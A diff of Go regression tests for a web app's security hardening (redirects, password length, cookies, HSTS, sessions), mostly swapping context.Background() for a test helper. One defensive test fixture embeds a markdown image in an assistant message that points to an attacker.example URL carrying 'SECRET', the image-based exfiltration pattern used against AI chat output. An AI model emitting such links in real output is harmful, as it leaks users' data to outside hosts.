@@ -3,7 +3,6 @@ package ui_test
 // Regression tests for issue 11 (hardening): each failed before its fix.
 
 import (
-	"context"
 	"io"
 	"log/slog"
 	"net/http"
@@ -25,7 +24,7 @@ import (
 // web server's by wopt.
 func newAppWith(t testing.TB, opt func(*ui.Config, *db.Store), wopt func(*web.Config)) *app {
 	t.Helper()
-	store, err := db.Open(context.Background(), t.TempDir(), db.WithPasswordCost(bcrypt.MinCost))
+	store, err := db.Open(testCtx(), t.TempDir(), db.WithPasswordCost(bcrypt.MinCost))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -68,7 +67,7 @@ func location(res *http.Response) string { return res.Header.Get("Location") }
 
 func TestNextRedirectStaysOnSite(t *testing.T) {
 	a := newApp(t, "")
-	if _, err := a.store.CreateUser(context.Background(), "x@example.com", db.RoleViewer, password); err != nil {
+	if _, err := a.store.CreateUser(testCtx(), "x@example.com", db.RoleViewer, password); err != nil {
 		t.Fatal(err)
 	}
 	bad := []string{
@@ -109,7 +108,7 @@ func TestNextRedirectStaysOnSite(t *testing.T) {
 
 func TestThreadsSearchOddInput(t *testing.T) {
 	a := newApp(t, "")
-	ctx := context.Background()
+	ctx := testCtx()
 	if _, _, err := a.store.CreateThread(ctx, db.Thread{}, []db.Message{
 		{Role: "user", Status: "completed", Content: []db.ContentPart{{Type: "text", Text: &db.Text{Value: "invoice 42 overdue"}}}}}); err != nil {
 		t.Fatal(err)
@@ -164,7 +163,7 @@ func TestPasswordsOver72BytesRefused(t *testing.T) {
 	} else if !strings.Contains(parse(t, res).Text(), "72 bytes") {
 		t.Error("account: no message about the length")
 	}
-	users, _ := a.store.ListUsers(context.Background())
+	users, _ := a.store.ListUsers(testCtx())
 	res = admin.post("/settings/users/"+users[0].ID+"/password", url.Values{"csrf_token": {admin.token()}, "password": {long}})
 	if res.StatusCode != http.StatusSeeOther {
 		t.Errorf("reset to 73 bytes: status %d, want 303 with a message", res.StatusCode)
@@ -183,7 +182,7 @@ func TestPasswordsOver72BytesRefused(t *testing.T) {
 
 func TestFlashNeverOverflowsTheCookie(t *testing.T) {
 	a := newAppWith(t, withEngine, nil)
-	ctx := context.Background()
+	ctx := testCtx()
 	th, _, err := a.store.CreateThread(ctx, db.Thread{}, nil)
 	if err != nil {
 		t.Fatal(err)
@@ -235,7 +234,7 @@ func TestFlashNeverOverflowsTheCookie(t *testing.T) {
 
 func TestAddMessageWhileARunIsActive(t *testing.T) {
 	a := newAppWith(t, withEngine, nil)
-	ctx := context.Background()
+	ctx := testCtx()
 	th, _, err := a.store.CreateThread(ctx, db.Thread{}, nil)
 	if err != nil {
 		t.Fatal(err)
@@ -289,7 +288,7 @@ func TestAssistantFormRefusesNonFiniteNumbers(t *testing.T) {
 			}
 		}
 	}
-	if all, _ := a.store.AllAssistants(context.Background()); len(all) != 0 {
+	if all, _ := a.store.AllAssistants(testCtx()); len(all) != 0 {
 		t.Errorf("%d assistants stored", len(all))
 	}
 }
@@ -337,7 +336,7 @@ func TestHSTS(t *testing.T) {
 
 func TestRemoteImagesAreLinksByDefault(t *testing.T) {
 	a := newApp(t, "")
-	ctx := context.Background()
+	ctx := testCtx()
 	leak := "https://attacker.example/leak?d=SECRET"
 	th, _, err := a.store.CreateThread(ctx, db.Thread{}, []db.Message{{Role: "assistant", Status: "completed", Content: []db.ContentPart{
 		{Type: "text", Text: &db.Text{Value: "Look: ![chart](" + leak + ") and ![own](/files/file_1/content)"}},
@@ -402,7 +401,7 @@ func signedIn(c *client) bool {
 
 func TestSessionsAreRevocable(t *testing.T) {
 	a := newApp(t, "")
-	ctx := context.Background()
+	ctx := testCtx()
 	admin := a.user(db.RoleAdmin)
 
 	t.Run("sign-out", func(t *testing.T) {
@@ -518,7 +517,7 @@ func TestSessionsAreRevocable(t *testing.T) {
 // as them.
 func (a *app) signInAs(email string) *client {
 	a.t.Helper()
-	if _, err := a.store.CreateUser(context.Background(), email, db.RoleViewer, password); err != nil {
+	if _, err := a.store.CreateUser(testCtx(), email, db.RoleViewer, password); err != nil {
 		a.t.Fatal(err)
 	}
 	c := a.client()
@@ -532,7 +531,7 @@ func (a *app) signInAs(email string) *client {
 func TestFlashesDoNotPileUp(t *testing.T) {
 	a := newApp(t, "")
 	admin := a.user(db.RoleAdmin)
-	users, _ := a.store.ListUsers(context.Background())
+	users, _ := a.store.ListUsers(testCtx())
 	token := admin.token()
 	// A client that does not follow the redirects never sees the
 	// messages; they must not pile up in the session cookie.
